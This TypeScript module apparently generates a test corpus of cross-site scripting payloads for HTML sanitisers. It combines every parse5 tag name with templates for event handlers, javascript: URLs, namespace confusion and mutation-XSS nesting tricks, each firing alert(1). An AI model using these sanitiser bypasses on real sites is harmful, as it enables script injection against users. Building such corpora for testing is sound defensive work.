/** Payloads made of every element that a parser knows, in places where sanitisers have failed. */
import { html } from 'parse5';

const RUN = 'src=x href=x onerror=alert(1) onload=alert(1) onfocus=alert(1) autofocus tabindex=0';
const LINKS = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href']
  .map((name) => `${name}="java&Tab;script:alert(1)"`)
  .join(' ');
const PICTURE = '<img src=x onerror=alert(1)>';

/** What surrounds an element; `N` stands for its name. */
const PLACES = [
  `<N ${RUN}>x</N>`,
  `<N/${RUN.replaceAll(' ', '/').toUpperCase()}>x</N>`,
  `<N\n\t${RUN.replaceAll('=', ' = ')}\n>x</N>`,
  `<N x="'"${RUN} y='"'>x</N>`,
  `<N ${LINKS}>x</N>`,
  `<N name=forms id=body style="position:fixed;inset:0;background:url(javascript:alert(1))">x</N>`,
  `<N srcdoc="${PICTURE}" content="0;url=javascript:alert(1)" http-equiv=refresh>x</N>`,
  `<svg><N ${RUN} attributeName=href to="javascript:alert(1)">x</N></svg>`,
  `<math><mtext><N ${RUN}>x</N></mtext></math>`,
  `<svg></p><N><g title="</N>${PICTURE}"></g></N></svg>`,
  `<math><annotation-xml encoding="text/html"><N>${PICTURE}</N></annotation-xml></math>`,
  `<table><N><tr><td>${PICTURE}</td></tr></N></table>`,
  `<select><N>${PICTURE}</N></select>`,
  `<noscript><N title="</noscript>${PICTURE}"></N></noscript>`,
  `<!--><N ${RUN}>x</N>--><!-- --!><N ${RUN}>x</N>-->`,
  `<N title="--></N>${PICTURE}">x</N>`,
  `<N><style><a title="</style>${PICTURE}"></a></style></N>`,
  `<form><N form=x><math></form><form></N>${PICTURE}</math></form>`,
];

export const MADE_PAYLOADS: readonly string[] = Object.values(html.TAG_NAMES).flatMap((name) =>
  PLACES.map((place) =>
    place.replaceAll('N', (_, at: number, whole: string) =>
      /[</]/.test(whole.charAt(at - 1)) ? name : 'N',
    ),
  ),
);
